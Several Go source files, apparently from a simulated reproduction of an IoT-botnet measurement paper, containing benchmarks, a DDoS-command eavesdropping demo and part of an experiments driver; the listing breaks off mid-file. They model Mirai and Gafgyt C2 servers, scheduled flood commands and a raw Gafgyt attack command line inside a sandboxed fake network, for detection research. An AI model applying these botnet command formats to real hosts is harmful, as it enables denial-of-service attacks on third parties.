// Ablation benches for the design choices DESIGN.md calls out. Each
// sweeps one pipeline parameter and reports the resulting study
// metric via b.ReportMetric, so `go test -bench Ablation` prints the
// sensitivity tables behind the paper's methodology decisions:
//
//   - probe frequency vs live-C2 detection (§3.2: "probe frequently")
//   - handshaker distinct-IP threshold vs exploits recovered (§2.4)
//   - DDoS pps heuristic threshold vs commands found (§2.5)
//   - blacklist feed aggregation vs day-0 miss rate (§3.3)
//   - analysis delay vs day-0 live C2 rate (the timeliness thesis)
package malnet_test

import (
	"fmt"
	"math/rand"
	"net/netip"
	"testing"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/c2"
	"malnet/internal/core"
	"malnet/internal/intel"
	"malnet/internal/sandbox"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
	"malnet/internal/world"
)

var ablT0 = time.Date(2021, 11, 8, 0, 0, 0, 0, time.UTC)

// BenchmarkAblationProbeInterval sweeps the probing cadence over the
// same two-week window and reports how many of the seven planted
// elusive C2s are found and how many engagements are captured.
// Slower cadences miss servers entirely — the paper's "persistent
// probing" recommendation.
func BenchmarkAblationProbeInterval(b *testing.B) {
	for _, interval := range []time.Duration{time.Hour, 4 * time.Hour, 12 * time.Hour, 24 * time.Hour} {
		interval := interval
		b.Run(interval.String(), func(b *testing.B) {
			b.ReportAllocs()
			var found, engagements int
			for i := 0; i < b.N; i++ {
				clock := simclock.New(ablT0)
				net := simnet.New(clock, simnet.DefaultConfig())
				subnet := simnet.SubnetFrom("203.0.113.0/24")
				for j := 0; j < 7; j++ {
					c2.NewServer(net, c2.ServerConfig{
						Family: c2.FamilyMirai,
						Addr:   simnet.Addr{IP: subnet.HostAt(10 + j*13), Port: 1312},
						Birth:  ablT0.Add(-24 * time.Hour),
						Death:  ablT0.Add(16 * 24 * time.Hour),
						Duty:   c2.DefaultDutyCycle(int64(500 + j)),
					})
				}
				rounds := int(14 * 24 * time.Hour / interval)
				study := core.RunProbing(net, core.ProbeConfig{
					Subnets:  []simnet.Subnet{subnet},
					Ports:    []uint16{1312},
					Interval: interval,
					Rounds:   rounds,
					Family:   c2.FamilyMirai,
				})
				found = len(study.LiveC2s)
				engagements = 0
				for _, t := range study.LiveC2s {
					engagements += t.Engagements()
				}
			}
			b.ReportMetric(float64(found), "c2s-found-of-7")
			b.ReportMetric(float64(engagements), "engagements")
		})
	}
}

// BenchmarkAblationHandshakerThreshold sweeps the distinct-IP
// trigger (paper: 20) and reports exploits recovered in a fixed
// window. Too high a threshold never arms the trap.
func BenchmarkAblationHandshakerThreshold(b *testing.B) {
	raw, err := binfmt.Encode(binfmt.BotConfig{
		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"60.0.0.9:6667"},
		ScanPorts: []uint16{80, 8080}, ExploitIDs: []string{"gpon-rce", "netlink-gpon"},
		LoaderName: "t8UsA2.sh", DownloaderAddr: "60.0.0.9:80",
	}, rand.New(rand.NewSource(9)), nil)
	if err != nil {
		b.Fatal(err)
	}
	for _, threshold := range []int{5, 20, 100, 500} {
		threshold := threshold
		b.Run(fmt.Sprintf("threshold=%d", threshold), func(b *testing.B) {
			b.ReportAllocs()
			var captured int
			for i := 0; i < b.N; i++ {
				clock := simclock.New(ablT0)
				net := simnet.New(clock, simnet.DefaultConfig())
				sb := sandbox.New(net, sandbox.Config{Seed: int64(i)})
				// A short window bounds how many distinct victims
				// each port sees (~60), so the threshold bites.
				rep, err := sb.Run(raw, sandbox.RunOptions{
					Mode: sandbox.ModeIsolated, Duration: 8 * time.Minute,
					HandshakerThreshold: threshold,
				})
				if err != nil {
					b.Fatal(err)
				}
				captured = len(core.ClassifyExploits(rep))
			}
			b.ReportMetric(float64(captured), "vulns-captured")
		})
	}
}

// BenchmarkAblationDDoSThreshold sweeps the behavioral heuristic's
// pps cutoff (paper: 100) against a live attack session and reports
// commands recovered with the protocol profiles disabled. Absurdly
// high thresholds stop seeing floods.
func BenchmarkAblationDDoSThreshold(b *testing.B) {
	for _, threshold := range []float64{10, 100, 1000, 1e6} {
		threshold := threshold
		b.Run(fmt.Sprintf("pps=%.0f", threshold), func(b *testing.B) {
			b.ReportAllocs()
			var observed int
			for i := 0; i < b.N; i++ {
				clock := simclock.New(ablT0)
				net := simnet.New(clock, simnet.DefaultConfig())
				srv := c2.NewServer(net, c2.ServerConfig{
					Family: c2.FamilyGafgyt, Addr: simnet.AddrFrom("60.0.0.9", 23),
					Birth: ablT0, Death: ablT0.Add(24 * time.Hour), AlwaysOn: true,
				})
				for j, atk := range []c2.AttackType{c2.AttackUDPFlood, c2.AttackSYNFlood, c2.AttackSTD} {
					srv.ScheduleAttack(ablT0.Add(time.Duration(10+j*10)*time.Minute), c2.Command{
						Attack: atk, Target: netip.MustParseAddr("70.0.0.9"), Port: uint16(1000 + j),
						Duration: 20 * time.Second,
					}, 3)
				}
				sb := sandbox.New(net, sandbox.Config{Seed: int64(i)})
				raw, err := binfmt.Encode(binfmt.BotConfig{
					Family: "gafgyt", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
				}, rand.New(rand.NewSource(int64(i))), nil)
				if err != nil {
					b.Fatal(err)
				}
				rep, err := sb.Run(raw, sandbox.RunOptions{
					Mode: sandbox.ModeLive, Duration: time.Hour, RestrictToC2: true,
				})
				if err != nil {
					b.Fatal(err)
				}
				cands := core.DetectC2(rep, 1)
				cfg := core.DDoSExtractorConfig{
					RateThreshold:   threshold,
					ProfileFamilies: map[string]bool{}, // heuristic only
				}
				observed = len(core.ExtractDDoS(rep, c2.FamilyGafgyt, cands, cfg))
			}
			b.ReportMetric(float64(observed), "commands-of-3")
		})
	}
}

// BenchmarkAblationFeedAggregation sweeps how many top feeds a
// blacklist aggregates and reports the day-0 miss rate over 1000 C2
// addresses — Figure 7's "aggregate multiple sources" insight.
func BenchmarkAblationFeedAggregation(b *testing.B) {
	day0 := time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC)
	for _, k := range []int{1, 2, 5, 10, 44} {
		k := k
		b.Run(fmt.Sprintf("feeds=%d", k), func(b *testing.B) {
			b.ReportAllocs()
			var missRate float64
			for i := 0; i < b.N; i++ {
				svc := intel.NewService(42)
				const n = 1000
				for j := 0; j < n; j++ {
					svc.RegisterC2(fmt.Sprintf("63.0.%d.%d", j/256, j%256), intel.KindIP, day0)
				}
				// The blacklist uses only the k highest-coverage
				// vendors.
				topVendors := map[string]bool{}
				for idx, v := range svc.Vendors() {
					if idx < k {
						topVendors[v.Name] = true
					}
				}
				missed := 0
				for j := 0; j < n; j++ {
					rep := svc.QueryAddress(fmt.Sprintf("63.0.%d.%d", j/256, j%256), day0)
					hit := false
					for _, v := range rep.Vendors {
						if topVendors[v] {
							hit = true
						}
					}
					if !hit {
						missed++
					}
				}
				missRate = float64(missed) / n
			}
			b.ReportMetric(100*missRate, "day0-miss-pct")
		})
	}
}

// BenchmarkAblationAnalysisDelay sweeps how long after publication
// samples are analyzed and reports the live-C2 rate — the paper's
// timeliness thesis: with one-day C2 lifespans, even a one-day delay
// loses most live servers.
func BenchmarkAblationAnalysisDelay(b *testing.B) {
	for _, delay := range []int{0, 1, 2, 7} {
		delay := delay
		b.Run(fmt.Sprintf("delay=%dd", delay), func(b *testing.B) {
			b.ReportAllocs()
			var liveRate float64
			for i := 0; i < b.N; i++ {
				wcfg := world.DefaultConfig(21)
				wcfg.TotalSamples = 150
				w := world.Generate(wcfg)
				scfg := core.DefaultStudyConfig(21)
				scfg.Analysis.Probing = false
				scfg.Analysis.DelayDays = delay
				st := core.RunStudy(w, scfg)
				var withC2, live int
				for _, s := range st.Samples {
					if s.P2P || len(s.C2s) == 0 {
						continue
					}
					withC2++
					if s.LiveDay0 {
						live++
					}
				}
				if withC2 > 0 {
					liveRate = float64(live) / float64(withC2)
				}
			}
			b.ReportMetric(100*liveRate, "live-c2-pct")
		})
	}
}

// BenchmarkAblationInetSim measures the sandbox activation rate with
// and without the fake-Internet services — §2.6a's justification for
// deploying InetSim: connectivity-checking samples abort without it,
// and only the strict resolve-all detectors still evade with it.
func BenchmarkAblationInetSim(b *testing.B) {
	mkSample := func(evasion string, seed int64) []byte {
		raw, err := binfmt.Encode(binfmt.BotConfig{
			Family: "mirai", Variant: "v1",
			C2Addrs: []string{"60.0.0.9:23"},
			Evasion: evasion,
		}, rand.New(rand.NewSource(seed)), nil)
		if err != nil {
			b.Fatal(err)
		}
		return raw
	}
	// A feed with the world's evasion mix: 8% strict, 5%
	// connectivity, 87% plain.
	var feed [][]byte
	for i := 0; i < 100; i++ {
		ev := ""
		switch {
		case i < 8:
			ev = "strict"
		case i < 13:
			ev = "connectivity"
		}
		feed = append(feed, mkSample(ev, int64(i)))
	}
	for _, disable := range []bool{false, true} {
		name := "inetsim=on"
		if disable {
			name = "inetsim=off"
		}
		disable := disable
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			var rate float64
			for i := 0; i < b.N; i++ {
				clock := simclock.New(ablT0)
				net := simnet.New(clock, simnet.DefaultConfig())
				sb := sandbox.New(net, sandbox.Config{Seed: 1})
				activated := 0
				for _, raw := range feed {
					rep, err := sb.Run(raw, sandbox.RunOptions{
						Mode:                sandbox.ModeIsolated,
						Duration:            5 * time.Minute,
						DisableFakeServices: disable,
					})
					if err != nil {
						b.Fatal(err)
					}
					if rep.Activated {
						activated++
					}
				}
				rate = float64(activated) / float64(len(feed))
			}
			b.ReportMetric(100*rate, "activation-pct")
		})
	}
}

// BenchmarkAblationDetectC2MinAttempts sweeps the classifier's
// repeat-dial threshold for signature-less endpoints. The paper's
// classifier leans on repetition; a too-high bar loses short
// sessions while 1 admits every one-shot connection.
func BenchmarkAblationDetectC2MinAttempts(b *testing.B) {
	raw, err := binfmt.Encode(binfmt.BotConfig{
		Family: "mirai", Variant: "v1",
		C2Addrs: []string{"60.0.0.9:23", "60.0.0.10:23", "cnc.abl.example:1312"},
	}, rand.New(rand.NewSource(12)), nil)
	if err != nil {
		b.Fatal(err)
	}
	for _, minAttempts := range []int{1, 2, 5, 12} {
		minAttempts := minAttempts
		b.Run(fmt.Sprintf("min=%d", minAttempts), func(b *testing.B) {
			b.ReportAllocs()
			var found int
			for i := 0; i < b.N; i++ {
				clock := simclock.New(ablT0)
				net := simnet.New(clock, simnet.DefaultConfig())
				sb := sandbox.New(net, sandbox.Config{Seed: 3})
				// Live mode with dead C2s: no payload ever flows, so
				// the classifier has only dial repetition to go on.
				rep, err := sb.Run(raw, sandbox.RunOptions{
					Mode: sandbox.ModeLive, Duration: 15 * time.Minute,
				})
				if err != nil {
					b.Fatal(err)
				}
				found = len(core.DetectC2(rep, minAttempts))
			}
			b.ReportMetric(float64(found), "c2s-of-3")
		})
	}
}
