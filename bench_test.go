// Benchmarks regenerating every table and figure of the paper's
// evaluation, plus component micro-benchmarks and the ablation
// benches DESIGN.md calls out.
//
// The table/figure benches share one full-scale study (1447 samples,
// the paper's probing schedule), built once per benchmark binary;
// each bench then measures its aggregation and reports the headline
// metric it reproduces via b.ReportMetric, so `go test -bench .`
// doubles as the paper-shape regression harness.
package malnet_test

import (
	"fmt"
	"math/rand"
	"net/netip"
	"sync"
	"testing"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/c2"
	"malnet/internal/checkpoint"
	"malnet/internal/core"
	"malnet/internal/results"
	"malnet/internal/sandbox"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
	"malnet/internal/world"
	"malnet/internal/yara"
)

var (
	fullOnce  sync.Once
	fullStudy *core.Study
)

// sharedStudy runs the paper-scale pipeline once per benchmark
// binary (~30 s) and caches it.
func sharedStudy(b *testing.B) *core.Study {
	b.Helper()
	fullOnce.Do(func() {
		w := world.Generate(world.DefaultConfig(42))
		fullStudy = core.RunStudy(w, core.DefaultStudyConfig(42))
	})
	return fullStudy
}

// ---- Tables ----

func BenchmarkTable1Datasets(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var t results.Table1
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		t = results.NewTable1(st)
	}
	b.ReportMetric(float64(t.DSamples), "samples")
	b.ReportMetric(float64(t.DC2s), "c2s")
	b.ReportMetric(float64(t.DDDoS), "ddos")
	b.ReportMetric(float64(t.DExploitSamples), "exploit-samples")
}

func BenchmarkTable2TopASes(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var t results.Table2
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		t = results.NewTable2(st)
	}
	b.ReportMetric(100*t.Top10Share, "top10-share-pct") // paper: 69.7
	b.ReportMetric(float64(t.TotalASes), "ases")        // paper: 128
}

func BenchmarkTable3TIMiss(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var t results.Table3
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		t = results.NewTable3(st)
	}
	b.ReportMetric(100*t.AllDay0, "all-day0-miss-pct") // paper: 15.3
	b.ReportMetric(100*t.IPDay0, "ip-day0-miss-pct")   // paper: 13.3
	b.ReportMetric(100*t.DNSDay0, "dns-day0-miss-pct") // paper: 57.6
	b.ReportMetric(100*t.AllMay7, "all-may7-miss-pct") // paper: 3.3
}

func BenchmarkTable4Vulns(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var t results.Table4
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		t = results.NewTable4(st)
	}
	distinct := 0
	for _, r := range t.Rows {
		if r.Samples > 0 {
			distinct++
		}
	}
	b.ReportMetric(float64(distinct), "vulns-exploited") // paper: 12
}

func BenchmarkTable7Vendors(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var t results.Table7
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		t = results.NewTable7(st)
	}
	b.ReportMetric(float64(t.EverFlagging), "flagging-vendors") // paper: 44
	if len(t.Rows) > 0 {
		b.ReportMetric(float64(t.Rows[0].Count), "top-vendor-c2s") // paper: ~799/1000
	}
}

// ---- Figures ----

func BenchmarkFigure1Heatmap(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure1
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure1(st)
	}
	b.ReportMetric(float64(f.Grid.Max()), "peak-cell")
}

func BenchmarkFigure2LifetimeIP(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure2
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure2(st)
	}
	b.ReportMetric(100*f.OneDayShare(), "one-day-pct") // paper: ~80
	b.ReportMetric(f.CDF.Mean(), "mean-lifetime-days") // paper: ~4
}

func BenchmarkFigure3LifetimeDomain(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure3
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure3(st)
	}
	b.ReportMetric(float64(f.CDF.N()), "domains")
}

func BenchmarkFigure4ProbeRaster(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure4
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure4(st)
	}
	b.ReportMetric(float64(len(f.Targets)), "live-c2s")            // paper: 7
	b.ReportMetric(100*f.SecondProbeMiss, "second-probe-miss-pct") // paper: 91
	b.ReportMetric(float64(f.MaxDailyStreak), "max-daily-streak")  // paper: < 6
}

func BenchmarkFigure5SamplesPerC2(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure5
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure5(st)
	}
	b.ReportMetric(100*f.SingleShare(), "single-binary-pct") // paper: ~40
}

func BenchmarkFigure6SamplesPerDomain(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure6
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure6(st)
	}
	b.ReportMetric(float64(f.CDF.N()), "domains")
}

func BenchmarkFigure7VendorCDF(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure7
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure7(st)
	}
	b.ReportMetric(100*f.LowCoverageShare(), "low-coverage-pct") // paper: ~25
}

func BenchmarkFigure8VulnSeries(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure8
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure8(st)
	}
	b.ReportMetric(float64(len(f.Series)), "vulns-with-series")
}

func BenchmarkFigure9Loaders(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure9
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure9(st)
	}
	b.ReportMetric(float64(len(f.Loaders.Labels())), "loader-names") // paper: 7
}

func BenchmarkFigure10AttackProto(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure10
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure10(st)
	}
	b.ReportMetric(100*f.UDPShare(), "udp-share-pct") // paper: 74
}

func BenchmarkFigure11AttackTypes(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure11
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure11(st)
	}
	b.ReportMetric(float64(f.Types), "attack-types") // paper: 8
}

func BenchmarkFigure12Targets(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure12
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure12(st)
	}
	b.ReportMetric(float64(f.TargetASes), "target-ases")  // paper: 23
	b.ReportMetric(float64(f.Countries), "countries")     // paper: 11
	b.ReportMetric(100*f.GamingShare, "gaming-share-pct") // paper: 18
}

func BenchmarkFigure13ASCDF(b *testing.B) {
	b.ReportAllocs()
	st := sharedStudy(b)
	var f results.Figure13
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f = results.NewFigure13(st)
	}
	if len(f.Cumulative) >= 10 {
		b.ReportMetric(100*f.Cumulative[9], "top10-cumulative-pct") // paper: 69.7
	}
}

// ---- Component micro-benchmarks ----

func BenchmarkMiraiCommandRoundTrip(b *testing.B) {
	mirai, ok := c2.Lookup(c2.FamilyMirai)
	if !ok {
		b.Fatal("mirai not registered")
	}
	cmd := c2.Command{Attack: c2.AttackUDPFlood, Target: testTarget, Port: 80, Duration: time.Minute}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		wire, err := mirai.EncodeCommand(cmd)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := mirai.DecodeCommand(wire); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkGafgytParseLine(b *testing.B) {
	gafgyt, ok := c2.Lookup(c2.FamilyGafgyt)
	if !ok {
		b.Fatal("gafgyt not registered")
	}
	line := []byte("!* UDP 198.51.100.9 80 60\n")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := gafgyt.DecodeCommand(line); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkELFEncode(b *testing.B) {
	cfg := binfmt.BotConfig{Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"}}
	rng := rand.New(rand.NewSource(1))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := binfmt.Encode(cfg, rng, nil); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkYARAFamilyOf(b *testing.B) {
	b.ReportAllocs()
	raw, err := binfmt.Encode(binfmt.BotConfig{Family: "gafgyt", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"}},
		rand.New(rand.NewSource(1)), nil)
	if err != nil {
		b.Fatal(err)
	}
	rules := yara.IoTFamilies()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if rules.FamilyOf(raw) != "gafgyt" {
			b.Fatal("misclassified")
		}
	}
}

func BenchmarkSandboxIsolatedRun(b *testing.B) {
	b.ReportAllocs()
	raw, err := binfmt.Encode(binfmt.BotConfig{
		Family: "mirai", Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
		ScanPorts: []uint16{23},
	}, rand.New(rand.NewSource(1)), nil)
	if err != nil {
		b.Fatal(err)
	}
	for i := 0; i < b.N; i++ {
		clock := simclock.New(time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC))
		net := simnet.New(clock, simnet.DefaultConfig())
		sb := sandbox.New(net, sandbox.Config{Seed: int64(i)})
		if _, err := sb.Run(raw, sandbox.RunOptions{Mode: sandbox.ModeIsolated, Duration: 15 * time.Minute}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkCheckpointRoundTrip measures the durable-snapshot codec on
// a realistic payload: the paper-scale study's four datasets plus its
// metrics snapshot, framed and sealed exactly as the study driver
// writes them at day-batch boundaries. This is the per-checkpoint
// serialization cost a long -checkpoint-dir run pays once per day.
func BenchmarkCheckpointRoundTrip(b *testing.B) {
	st := sharedStudy(b)
	f := &checkpoint.File{}
	for name, v := range map[string]any{
		"samples": st.Samples, "c2s": st.C2s,
		"exploits": st.Exploits, "ddos": st.DDoS,
	} {
		if err := f.AddJSON(name, v); err != nil {
			b.Fatal(err)
		}
	}
	f.Add("metrics", []byte(st.Metrics().Snapshot()))
	size := len(checkpoint.Encode(f))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := checkpoint.Decode(checkpoint.Encode(f)); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(size), "snapshot-bytes")
}

// BenchmarkStudyWorkers measures the parallel executor's scaling on
// the default paper-scale world. Worker counts beyond the machine's
// core count cannot buy wall-clock time (the study is CPU-bound), so
// on an N-core machine expect speedup to flatten at N; the rendered
// datasets are byte-identical at every worker count either way.
func BenchmarkStudyWorkers(b *testing.B) {
	b.ReportAllocs()
	for _, workers := range []int{1, 2, 4} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				w := world.Generate(world.DefaultConfig(42))
				cfg := core.DefaultStudyConfig(42)
				cfg.Determinism.Workers = workers
				b.StartTimer()
				st := core.RunStudy(w, cfg)
				b.ReportMetric(float64(len(st.Samples)), "samples")
			}
		})
	}
}

func BenchmarkProbeSweepRound(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		clock := simclock.New(time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC))
		net := simnet.New(clock, simnet.DefaultConfig())
		subnet := simnet.SubnetFrom("203.0.113.0/24")
		c2.NewServer(net, c2.ServerConfig{
			Family: c2.FamilyMirai, Addr: simnet.Addr{IP: subnet.HostAt(5), Port: 1312},
			Birth: clock.Now().Add(-time.Hour), Death: clock.Now().Add(48 * time.Hour), AlwaysOn: true,
		})
		core.RunProbing(net, core.ProbeConfig{
			Subnets: []simnet.Subnet{subnet}, Ports: []uint16{1312},
			Rounds: 1, Family: c2.FamilyMirai,
		})
	}
}

var testTarget = netip.MustParseAddr("198.51.100.9")
