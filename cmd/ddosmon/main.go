// Command ddosmon demonstrates DDoS-command eavesdropping (§2.5):
// it stands up a live C2 that will issue attack commands, activates
// a bot sample against it in restricted mode, and prints every
// command the pipeline extracts (protocol-profile and heuristic
// methods) with its verification status.
//
// Usage:
//
//	ddosmon [-family mirai|gafgyt|daddyl33t] [-seed N]
package main

import (
	"flag"
	"fmt"
	"math/rand"
	"net/netip"
	"os"
	"time"

	"malnet/internal/binfmt"
	c2pkg "malnet/internal/c2"
	"malnet/internal/core"
	"malnet/internal/sandbox"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

func main() {
	var (
		family = flag.String("family", "mirai", "bot family (mirai, gafgyt, daddyl33t)")
		seed   = flag.Int64("seed", 1, "run seed")
	)
	flag.Parse()

	t0 := time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC)
	clock := simclock.New(t0)
	net := simnet.New(clock, simnet.DefaultConfig())

	srv := c2pkg.NewServer(net, c2pkg.ServerConfig{
		Family:   *family,
		Addr:     simnet.AddrFrom("60.0.0.9", 23),
		Birth:    t0,
		Death:    t0.Add(30 * 24 * time.Hour),
		AlwaysOn: true,
	})

	// The operator's attack schedule.
	attacks := []c2pkg.Command{
		{Attack: c2pkg.AttackUDPFlood, Target: netip.MustParseAddr("70.0.0.10"), Port: 80, Duration: 30 * time.Second},
		{Attack: c2pkg.AttackSYNFlood, Target: netip.MustParseAddr("70.0.0.11"), Port: 443, Duration: 30 * time.Second},
	}
	switch *family {
	case "daddyl33t":
		attacks = append(attacks,
			c2pkg.Command{Attack: c2pkg.AttackBlacknurse, Target: netip.MustParseAddr("70.0.0.12"), Duration: 20 * time.Second},
			c2pkg.Command{Attack: c2pkg.AttackNFO, Target: netip.MustParseAddr("70.0.0.13"), Port: 238, Duration: 20 * time.Second})
	case "gafgyt":
		attacks = []c2pkg.Command{
			{Attack: c2pkg.AttackUDPFlood, Target: netip.MustParseAddr("70.0.0.10"), Port: 80, Duration: 30 * time.Second},
			{Attack: c2pkg.AttackVSE, Target: netip.MustParseAddr("70.0.0.14"), Port: 27015, Duration: 20 * time.Second},
			{Attack: c2pkg.AttackSTD, Target: netip.MustParseAddr("70.0.0.15"), Port: 9999, Duration: 20 * time.Second},
		}
	}
	for i, cmd := range attacks {
		srv.ScheduleAttack(t0.Add(time.Duration(10+i*15)*time.Minute), cmd, 5)
	}

	raw, err := binfmt.Encode(binfmt.BotConfig{
		Family: *family, Variant: "v1", C2Addrs: []string{"60.0.0.9:23"},
	}, rand.New(rand.NewSource(*seed)), nil)
	if err != nil {
		fatal(err)
	}
	sb := sandbox.New(net, sandbox.Config{Seed: *seed})
	rep, err := sb.Run(raw, sandbox.RunOptions{
		Mode:         sandbox.ModeLive,
		Duration:     2 * time.Hour,
		RestrictToC2: true,
	})
	if err != nil {
		fatal(err)
	}

	cands := core.DetectC2(rep, 1)
	fmt.Printf("sample %s: %d C2 endpoint(s) detected\n", rep.SHA256[:12], len(cands))
	obs := core.ExtractDDoS(rep, *family, cands, core.DefaultDDoSExtractorConfig())
	fmt.Printf("extracted %d DDoS command(s):\n", len(obs))
	for _, o := range obs {
		fmt.Printf("  %s\n", o)
	}
	fmt.Printf("ground truth: server issued %d command(s)\n", len(srv.Issued))
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "ddosmon:", err)
	os.Exit(1)
}
