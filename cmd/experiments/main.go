// Command experiments regenerates every table and figure of the
// paper from a fresh end-to-end study run.
//
// Usage:
//
//	experiments [-seed N] [-samples N] [-probe-rounds N] [-workers N]
//	            [-short] [-table N] [-figure N] [-headlines] [-all]
//	            [-trace-out FILE] [-metrics-out FILE] [-debug-addr ADDR]
//	            [-checkpoint-dir DIR] [-checkpoint-every N] [-resume]
//
// With no selector it prints everything. -short runs a scaled-down
// study (150 samples, 12 probe rounds) in a few seconds; the default
// is the paper-scale 1447-sample year, which takes ~30 s.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"syscall"
	"time"

	"malnet/internal/cli"
	"malnet/internal/core"
	"malnet/internal/obs"
	"malnet/internal/results"
	"malnet/internal/world"
)

func main() { os.Exit(run()) }

// run is main with defer-friendly exits: the trace journal and
// metrics snapshot are flushed on every path out, so an interrupted
// study keeps its partial telemetry.
func run() int {
	flags := cli.NewStudyFlags(flag.CommandLine)
	var (
		probeRounds = flag.Int("probe-rounds", 0, "probing rounds (0 = paper's 84)")
		table       = flag.Int("table", 0, "print only table N (1-7)")
		figure      = flag.Int("figure", 0, "print only figure N (1-13)")
		headlines   = flag.Bool("headlines", false, "print only the headline findings")
		seeds       = flag.Int("seeds", 0, "run a robustness sweep over N seeds and report headline spreads")
	)
	flag.Parse()

	fail := func(err error) int {
		fmt.Fprintln(os.Stderr, "experiments:", err)
		return 1
	}

	if *seeds > 1 {
		seedSweep(*seeds, flags.Samples, *probeRounds, flags.Short)
		return 0
	}

	wcfg, scfg, err := flags.Configs()
	if err != nil {
		return fail(err)
	}
	if *probeRounds > 0 {
		scfg.Analysis.ProbeRounds = *probeRounds
	}

	observer := obs.NewObserver()
	scfg.Observability.Obs = observer
	scfg.Observability.Progress = flags.ProgressPrinter()
	cleanup, err := flags.Obs.Instrument(observer, flags.Checkpoint.Resume, "experiments")
	// Telemetry outlives failures: cleanup runs on every exit path.
	defer cleanup()
	if err != nil {
		return fail(err)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	fmt.Fprintf(os.Stderr, "generating world (seed=%d, samples=%d)...\n", flags.Seed, wcfg.TotalSamples)
	start := time.Now()
	w := world.Generate(wcfg)
	fmt.Fprintf(os.Stderr, "running study...\n")
	st, err := core.RunStudyContext(ctx, w, scfg)
	if err != nil {
		flags.Checkpoint.InterruptHint("experiments", err)
		return fail(fmt.Errorf("study interrupted: %w", err))
	}
	fmt.Fprintf(os.Stderr, "done in %v: %d samples, %d C2s, %d exploits, %d DDoS commands\n\n",
		time.Since(start).Round(time.Millisecond), len(st.Samples), len(st.C2s), len(st.Exploits), len(st.DDoS))

	tables := map[int]func() string{
		1: func() string { return results.NewTable1(st).Render() },
		2: func() string { return results.NewTable2(st).Render() },
		3: func() string { return results.NewTable3(st).Render() },
		4: func() string { return results.NewTable4(st).Render() },
		5: func() string { return results.NewTable5().Render() },
		6: func() string { return results.NewTable6().Render() },
		7: func() string { return results.NewTable7(st).Render() },
	}
	figures := map[int]func() string{
		1:  func() string { return results.NewFigure1(st).Render() },
		2:  func() string { return results.NewFigure2(st).Render() },
		3:  func() string { return results.NewFigure3(st).Render() },
		4:  func() string { return results.NewFigure4(st).Render() },
		5:  func() string { return results.NewFigure5(st).Render() },
